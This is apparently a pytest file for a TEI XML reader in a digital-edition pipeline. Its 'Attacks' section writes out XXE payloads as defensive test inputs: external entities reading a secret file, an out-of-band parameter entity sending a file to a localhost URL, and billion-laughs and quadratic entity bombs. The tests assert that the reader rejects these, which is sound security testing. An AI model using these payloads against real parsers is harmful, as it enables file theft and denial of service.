"""The door for source XML: what it reads, what it refuses, and how it says so."""

import gzip
import os
import pickle
import time
from pathlib import Path

import pytest

from pipeline import xml
from pipeline.problem import OutputError, PipelineError, Problem, UsageError
from pipeline.xml.read import MAX_BYTES

NS = "xmlns='http://www.tei-c.org/ns/1.0'"
TEI = f"<TEI {NS}><teiHeader/><text><body><p>Word</p></body></text></TEI>"


def read(folder: Path, content: str | bytes, name: str = "a.xml") -> xml.Source:
    (folder / name).write_bytes(content.encode() if isinstance(content, str) else content)
    return xml.read(folder / name, folder)


def text(source: xml.Source) -> str:
    assert source.root is not None, source.problems
    return "".join(source.root.itertext())


def only(source: xml.Source) -> Problem:
    assert source.root is None
    [problem] = source.problems
    assert problem.path == "a.xml"
    assert problem.severity == "error"
    assert problem.hint
    assert "\n" not in str(problem)
    return problem


def test_a_document_is_read(tmp_path):
    source = read(tmp_path, TEI)
    assert text(source) == "Word"
    assert source.problems == ()
    assert source.used == (("a.xml", source.sha256),)


def test_a_problem_is_one_line():
    problem = Problem("a.xml", 3, 7, "not-tei", "error", "This\nisn't TEI.", "Leave it out.")
    assert str(problem) == "a.xml:3:7: error: not-tei: This isn't TEI. (Leave it out.)"
    assert str(Problem("a.xml", 0, 0, "x", "note", "Y.")) == "a.xml: note: x: Y."


def test_problems_and_errors_survive_pickling():
    problem = Problem("a.xml", 3, 7, "not-tei", "error", "No.", "Hint.")
    assert pickle.loads(pickle.dumps(problem)) == problem
    for kind, code in ((PipelineError, 1), (UsageError, 2), (OutputError, 74)):
        error = pickle.loads(pickle.dumps(kind("Sentence.", "Hint.")))
        assert (str(error), error.hint, error.exit_code) == ("Sentence.\nHint.", "Hint.", code)


@pytest.mark.parametrize(
    ("content", "rule", "line", "column", "words"),
    [
        ("", "empty-file", 1, 1, "empty"),
        (" \n ", "empty-file", 1, 1, "empty"),
        ("Dear sir,\n", "not-xml", 1, 1, "tag"),
        (b"\x89PNG\r\n\x1a\n....", "not-xml", 1, 1, "PNG"),
        (b"\xff\xd8\xff\xe0....", "not-xml", 1, 1, "JPEG"),
        (b"PK\x03\x04....", "not-xml", 1, 1, "ZIP"),
        (gzip.compress(TEI.encode()), "compressed", 1, 1, "gzip"),
        (f"<TEI {NS}>\n<p>a</q></TEI>", "not-well-formed", 2, 5, "<p> that begins in line 2"),
        (f"<TEI {NS}>\n<p>Ed. & Co.</p></TEI>", "not-well-formed", 2, 8, "&"),
        (f"<TEI {NS}>\n<p n=1>a</p></TEI>", "not-well-formed", 2, 6, "quotation marks"),
        (f"<TEI {NS}>\n<p n='1>a</p></TEI>", "not-well-formed", 2, 10, "attribute"),
        ("<?xml encoding='utf-8'?><TEI/>", "not-well-formed", 1, 7, "declaration"),
        (f"<TEI {NS}>\n<p n='1' n='2'>a</p></TEI>", "not-well-formed", 2, 15, "twice"),
        (f"<TEI {NS}>\n<p>3 < 4</p></TEI>", "not-well-formed", 2, 6, "<"),
        (f"<TEI {NS}>\n<p", "not-well-formed", 2, 3, "tag"),
        (f"<TEI {NS}>\n<p>a", "truncated", 2, 5, "<p> that begins in line 2"),
        (f"<TEI {NS}/>\n<TEI/>", "not-well-formed", 2, 1, "root"),
        (f"<TEI {NS}>\n<tei:p/></TEI>", "not-well-formed", 2, 7, "tei:"),
        (f"<TEI {NS}>\n<p>&aelig;</p></TEI>", "undefined-entity", 2, 4, "&aelig;"),
        (f"<TEI {NS}>\n<p>a\1b</p></TEI>", "control-character", 2, 5, "control character"),
        (f"<TEI {NS}>\n<p>a\0b</p></TEI>", "control-character", 2, 5, "NUL"),
        (f"<TEI {NS}>\n<!-- a -- b --></TEI>", "not-well-formed", 2, 8, "hyphens"),
        (f"\n<?xml version='1.0'?><TEI {NS}/>", "not-well-formed", 2, 6, "declaration"),
        (b"<?xml version='1.0'?>\n<TEI>\n\xc3\xa4 Z\xfcrich</TEI>", "wrong-encoding", 3, 4, "0xFC"),
        (b"<?xml version='1.0' encoding='ascii'?><TEI>\xe4</TEI>", "wrong-encoding", 1, 44, "ASCII"),
        ("<?xml version='1.0' encoding='klingon'?><TEI/>", "unknown-encoding", 1, 1, "klingon"),
        ("<?xml version='1.0' encoding='utf-7'?><TEI>+ADw-script+AD4-</TEI>", "unknown-encoding", 1, 1, "utf-7"),
        ("<TEI.2><teiHeader/></TEI.2>", "tei-p4", 1, 1, "P4"),
        ("<!-- x -->\n<TEI><teiHeader/></TEI>", "no-namespace", 2, 1, "namespace"),
        ('<TEI xmlns="https://www.tei-c.org/ns/1.0"/>', "not-tei", 1, 1, "https://www.tei-c.org/ns/1.0"),
        ('<html xmlns="http://www.w3.org/1999/xhtml"/>', "not-tei", 1, 1, "<html>"),
        ("<div/>", "not-tei", 1, 1, "<div>"),
    ],
)
def test_what_cannot_be_built_is_one_problem_with_its_place(  # noqa: PLR0913, PLR0917
    tmp_path, content, rule, line, column, words
):
    problem = only(read(tmp_path, content))
    assert (problem.rule, problem.line, problem.column) == (rule, line, column)
    assert words in problem.message


def test_a_wrong_character_in_a_file_is_told_in_the_hint(tmp_path):
    assert "æ" in only(read(tmp_path, f"<TEI {NS}>&aelig;</TEI>")).hint


def test_the_column_counts_characters(tmp_path):
    assert only(read(tmp_path, f"<TEI {NS}>\n<p>äöü & so</p></TEI>")).column == 8


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8-sig", "iso-8859-1", "windows-1252", "utf-32"])
def test_other_encodings_are_read(tmp_path, encoding):
    content = f"<?xml version='1.0' encoding='{encoding.removesuffix('-sig')}'?>{TEI.replace('Word', 'Zürich')}"
    assert text(read(tmp_path, content.encode(encoding))) == "Zürich"


def test_xml_1_1_is_read_and_told(tmp_path):
    source = read(tmp_path, f"<?xml version='1.1'?>{TEI}")
    assert text(source) == "Word"
    assert [(p.rule, p.severity) for p in source.problems] == [("xml-version", "warning")]


def test_a_folder_with_the_ending_of_xml_is_one_problem(tmp_path):
    (tmp_path / "a.xml").mkdir()
    assert only(xml.read(tmp_path / "a.xml", tmp_path)).rule == "unreadable"


def test_a_file_that_vanished_is_one_problem(tmp_path):
    assert only(xml.read(tmp_path / "a.xml", tmp_path)).rule == "unreadable"


def test_a_pipe_is_not_waited_for(tmp_path):
    os.mkfifo(tmp_path / "a.xml")
    assert only(xml.read(tmp_path / "a.xml", tmp_path)).rule == "unreadable"


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_file_that_may_not_be_read_is_one_problem(tmp_path):
    (tmp_path / "a.xml").write_text(TEI)
    (tmp_path / "a.xml").chmod(0)
    assert only(xml.read(tmp_path / "a.xml", tmp_path)).rule == "unreadable"


def test_a_link_out_of_the_edition_is_not_followed(tmp_path):
    (tmp_path / "secret.xml").write_text(TEI)
    (tmp_path / "edition").mkdir()
    (tmp_path / "edition" / "a.xml").symlink_to(tmp_path / "secret.xml")
    assert only(xml.read(tmp_path / "edition" / "a.xml", tmp_path / "edition")).rule == "outside"


def test_a_part_of_tei_keeps_its_tree_and_says_so(tmp_path):
    source = read(tmp_path, f"<div {NS}><p>Word</p></div>")
    assert text(source) == "Word"
    assert [(p.rule, p.severity) for p in source.problems] == [("fragment", "error")]


def test_a_register_by_itself_is_only_noted(tmp_path):
    source = read(tmp_path, f"<listPerson {NS}><person xml:id='a'/></listPerson>")
    assert [(p.rule, p.severity) for p in source.problems] == [("fragment", "note")]


# Ids


def test_an_id_that_stands_twice_is_told_and_the_text_is_read(tmp_path):
    source = read(tmp_path, f"<TEI {NS}>\n<p xml:id='a'/>\n  <p\n xml:id='a'/></TEI>")
    assert source.root is not None
    [problem] = source.problems
    assert (problem.rule, problem.severity, problem.line, problem.column) == ("duplicate-id", "error", 3, 3)
    assert "line 2" in problem.message


@pytest.mark.parametrize("name", ["1a", "a b", "a:b", "", "a/b", "é?"])
def test_an_id_that_is_no_name_is_told_and_the_text_is_read(tmp_path, name):
    source = read(tmp_path, f"<TEI {NS}>\n<p xml:id='{name}'/></TEI>")
    assert source.root is not None
    assert [(p.rule, p.line) for p in source.problems] == [("malformed-id", 2)]


@pytest.mark.parametrize("name", ["a", "_a-1.b", "Ä1", "знак", " a "])
def test_names_of_all_scripts_are_ids(tmp_path, name):
    assert read(tmp_path, f"<TEI {NS}><p xml:id='{name}'/></TEI>").problems == ()


def test_a_thousand_wrong_ids_are_not_told_one_by_one(tmp_path):
    same = "<p xml:id='a'/>" * 1000
    assert len(read(tmp_path, f"<TEI {NS}>{same}</TEI>").problems) == 101


# Document types and entities


def doctype(folder: Path, declaration: str, content: str) -> xml.Source:
    return read(folder, f"{declaration}\n<TEI {NS}>\n<p>{content}</p></TEI>")


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE TEI SYSTEM "tei.dtd">',
        '<!DOCTYPE TEI PUBLIC "-//TEI//DTD" "http://www.tei-c.org/tei.dtd">',
        '<!DOCTYPE TEI SYSTEM "../dtd/tei.dtd" [\n<!ENTITY % TEI.prose "INCLUDE">\n]>',
        '<!DOCTYPE TEI [<!ENTITY % ISOlat1 SYSTEM "iso-lat1.ent">\n%ISOlat1;]>',
        '<?xml version="1.0" standalone="yes"?><!DOCTYPE TEI SYSTEM "tei.dtd">',
    ],
)
def test_well_known_entities_keep_their_text_under_a_dtd(tmp_path, declaration):
    source = doctype(tmp_path, declaration, "C&aelig;sar &mdash; &agr;&b.alpha; &amp; &lt;")
    assert text(source).strip() == "Cæsar — α𝛂 & <"
    assert source.problems == ()


def test_entities_of_the_file_itself_work(tmp_path):
    declared = '<!ENTITY ed "Jane &amp; <hi>J&#246;hn</hi>"><!ENTITY two "&ed;, &ed;"><!ENTITY aelig "AE">'
    source = doctype(tmp_path, f"<!DOCTYPE TEI [{declared}]>", "&two; &aelig;")
    assert text(source).strip() == "Jane & Jöhn, Jane & Jöhn AE"


def test_markup_that_comes_by_an_entity_is_in_the_namespace_around_it(tmp_path):
    source = read(
        tmp_path, f"<!DOCTYPE TEI [<!ENTITY a '<hi>b</hi>'>]>\n<TEI {NS}><teiHeader/><text><p>&a;</p></text></TEI>"
    )
    assert [element.tag.partition("}")[2] for element in source.root.iter("{http://www.tei-c.org/ns/1.0}hi")] == ["hi"]


def test_the_first_declaration_of_an_entity_counts(tmp_path):
    source = doctype(tmp_path, '<!DOCTYPE TEI [<!ENTITY a "one"><!ENTITY a "two">]>', "&a;")
    assert text(source).strip() == "one"


def test_places_after_a_document_type_are_exact(tmp_path):
    declaration = '<!DOCTYPE TEI [\n<!ENTITY a "<hi>one</hi>">\n]>'
    source = doctype(tmp_path, declaration, "&a;</p>\n <p xml:id='1'>")
    assert [(p.line, p.column) for p in source.problems] == [(6, 2)]
    assert only(doctype(tmp_path, declaration, "</q>")).line == 5


def test_an_entity_nobody_declared_is_told(tmp_path):
    problem = only(doctype(tmp_path, '<!DOCTYPE TEI SYSTEM "tei.dtd">', "&nobody;"))
    assert (problem.rule, problem.line) == ("undefined-entity", 3)


# Attacks


def secret(folder: Path) -> Path:
    file = folder / "secret.txt"
    file.write_text("SECRET")
    return file


@pytest.mark.parametrize("scheme", ["file://{}", "{}"])
def test_an_external_entity_is_never_read(tmp_path, scheme):
    address = scheme.format(secret(tmp_path))
    problem = only(doctype(tmp_path, f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{address}">]>', "&x;"))
    assert (problem.rule, problem.line) == ("external-entity", 3)
    assert "SECRET" not in str(problem)


def test_an_external_entity_that_is_not_used_does_no_harm(tmp_path):
    source = doctype(tmp_path, f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{secret(tmp_path)}">]>', "Word")
    assert text(source).strip() == "Word"


@pytest.mark.parametrize(
    "declaration",
    [
        '<!DOCTYPE TEI SYSTEM "file://{}">',
        '<!DOCTYPE TEI [<!ENTITY % x SYSTEM "file://{}"> %x;]>',
        '<!DOCTYPE TEI SYSTEM "{}" [<!ENTITY % x PUBLIC "p" "{}"> %x;]>',
    ],
)
def test_what_stands_in_an_external_dtd_is_never_read(tmp_path, declaration):
    dtd = tmp_path / "x.dtd"
    dtd.write_text('<!ENTITY leak "SECRET">')
    assert only(doctype(tmp_path, declaration.replace("{}", str(dtd)), "&leak;")).rule == "undefined-entity"


def test_an_entity_in_an_attribute_reads_nothing(tmp_path):
    declared = f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "{secret(tmp_path)}">]>'
    assert only(doctype(tmp_path, declared, '<hi n="&x;"/>')).rule in ("external-entity", "not-well-formed")


def test_a_parameter_entity_cannot_send_a_file_away(tmp_path):
    declared = (
        f'<!DOCTYPE TEI [<!ENTITY % f SYSTEM "{secret(tmp_path)}">'
        "<!ENTITY % e \"<!ENTITY s SYSTEM 'http://localhost:9/%f;'>\">%e;]>"
    )
    source = doctype(tmp_path, declared, "Word")
    assert source.root is None or text(source).strip() == "Word"


def laughs(levels: int) -> str:
    rows = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, levels))
    return f'<!DOCTYPE TEI [<!ENTITY l0 "lol lol lol lol lol">{rows}]>'


def test_a_billion_laughs_end_soon(tmp_path):
    begin = time.monotonic()
    assert only(doctype(tmp_path, laughs(12), "&l11;")).rule == "entity-expansion"
    assert time.monotonic() - begin < 5


def test_a_billion_laughs_in_an_attribute_end_soon(tmp_path):
    assert only(doctype(tmp_path, laughs(12), "<hi n='&l11;'/>")).rule == "entity-expansion"


def test_a_billion_laughs_in_parameter_entities_end_soon(tmp_path):
    rows = "".join(f"<!ENTITY % l{n} '" + f"&#37;l{n - 1};" * 20 + "'>" for n in range(1, 12))
    begin = time.monotonic()
    doctype(tmp_path, f"<!DOCTYPE TEI [<!ENTITY % l0 'x'>{rows}%l11;]>", "Word")
    assert time.monotonic() - begin < 5


def test_a_quadratic_blowup_ends_soon(tmp_path):
    declared = "<!DOCTYPE TEI [<!ENTITY a '" + "a" * 100_000 + "'>]>"
    assert only(doctype(tmp_path, declared, "&a;" * 100_000)).rule == "entity-expansion"


def test_an_entity_in_itself_ends_soon(tmp_path):
    declared = '<!DOCTYPE TEI [<!ENTITY a "&b;"><!ENTITY b "&a;">]>'
    assert only(doctype(tmp_path, declared, "&a;")).rule == "entity-expansion"


def test_depth_is_bounded(tmp_path):
    assert only(read(tmp_path, f"<TEI {NS}>{'<div>' * 5000}{'</div>' * 5000}</TEI>")).rule == "too-deep"
    assert read(tmp_path, f"<TEI {NS}>{'<div>' * 200}{'</div>' * 200}</TEI>").root is not None


def test_attributes_are_bounded(tmp_path):
    attributes = " ".join(f'a{n}="x"' for n in range(5000))
    problem = only(read(tmp_path, f"<TEI {NS}>\n<p {attributes}/></TEI>"))
    assert (problem.rule, problem.line) == ("too-many-attributes", 2)


def test_size_is_bounded(tmp_path):
    with (tmp_path / "a.xml").open("wb") as file:
        file.truncate(MAX_BYTES + 1)
    assert only(xml.read(tmp_path / "a.xml", tmp_path)).rule == "too-large"


def test_a_long_text_is_bounded(tmp_path):
    assert only(read(tmp_path, f"<TEI {NS}><p>{'a' * 10_500_000}</p></TEI>")).rule == "too-large"


def test_markup_in_utf_7_stays_hidden(tmp_path):
    assert only(read(tmp_path, b"+ADw-TEI/+AD4-")).rule == "not-xml"


def test_a_stylesheet_instruction_is_not_followed_and_not_published(tmp_path):
    source = read(tmp_path, f'<?xml version="1.0"?><?xml-stylesheet href="http://localhost:9/x.xsl"?>{TEI}')
    [part] = xml.cut(source).parts
    assert b"xml-stylesheet" not in xml.own_tei(part)
